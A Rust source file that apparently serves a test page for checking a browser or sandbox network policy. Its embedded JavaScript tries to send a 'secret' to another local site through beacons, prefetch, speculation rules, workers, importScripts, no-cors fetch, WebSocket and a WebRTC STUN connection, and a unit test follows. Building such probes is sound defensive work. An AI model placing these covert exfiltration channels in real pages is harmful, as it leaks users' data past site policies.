//! `/ways-out?to=http://c.localhost:PORT&udp=PORT`: a page that tries to send data to another site in every way that
//! returns no response to it. It tries each way with that site first (`/report/WAY`), then with its own (`/own/WAY`).

use crate::site::http::incoming::Incoming;
use crate::site::http::response::{Response, escape};

/// Ways that also work with the page's own site under every policy.
pub const OWN_SITE_PATHS: &[&str] = &["beacon", "prefetch", "worker", "nested", "imported"];

/// Every way that the page tries with the other site.
pub const EXFILTRATION_PATHS: &[&str] =
    &["beacon", "prefetch", "speculation", "worker", "nested", "imported", "socket", "shared"];

const SCRIPT: &str = "
    const [there, own] = [`${TO}/report/`, `${location.origin}/own/`];
    const quietly = (code) => { try { code(); } catch {} };
    for (const base of [there, own]) {
        navigator.sendBeacon(`${base}beacon`, 'secret');
        const link = document.createElement('link');
        Object.assign(link, { rel: 'prefetch', href: `${base}prefetch` });
        document.head.append(link);
    }
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${there}speculation`], eagerness: 'immediate' }] });
    document.head.append(rules);
    const address = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
    const asks = (way) => `
        const ask = (base) => fetch(base + '${way}', { mode: 'no-cors' }).catch(() => {});
        ask('${there}').then(() => ask('${own}'));`;
    const worker = `
        try { new WebSocket('${there}socket'.replace('http', 'ws')); } catch {}
        for (const base of ['${there}', '${own}']) { try { importScripts(base + 'imported'); } catch {} }
        ${asks('worker')}
        new Worker('${address(asks('nested'))}');`;
    quietly(() => new Worker(address(worker)));
    quietly(() => new SharedWorker(address(asks('shared'))));
    quietly(() => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${UDP}` }] });
        peer.createDataChannel('x');
        peer.createOffer().then((offer) => peer.setLocalDescription(offer));
        globalThis.peer = peer;
    });
";

/// The response for a path of this family.
pub(crate) fn find(incoming: Incoming<'_>) -> Option<Response> {
    if incoming.path() != "/ways-out" {
        return None;
    }
    let to = incoming.text("to").unwrap_or_default();
    let udp = incoming.number("udp", 9, 65_535);
    let script = SCRIPT.replace("${TO}", &escape(&to)).replace("${UDP}", &udp.to_string());
    Some(Response::page("Ways out", &format!("<h1>Ways out</h1>\n<script>{script}</script>")))
}

#[cfg(test)]
mod tests {
    use crate::site::route::tests::response;

    #[tokio::test]
    async fn every_way_is_in_the_page() {
        let (head, body) = response("GET /ways-out?to=http://c.localhost:1&udp=7 HTTP/1.1\r\n\r\n").await;
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        for way in super::EXFILTRATION_PATHS {
            assert!(body.contains(way), "{way}");
        }
        assert!(body.contains("http://c.localhost:1/report/") && body.contains("stun:127.0.0.1:7"), "{body}");
    }
}
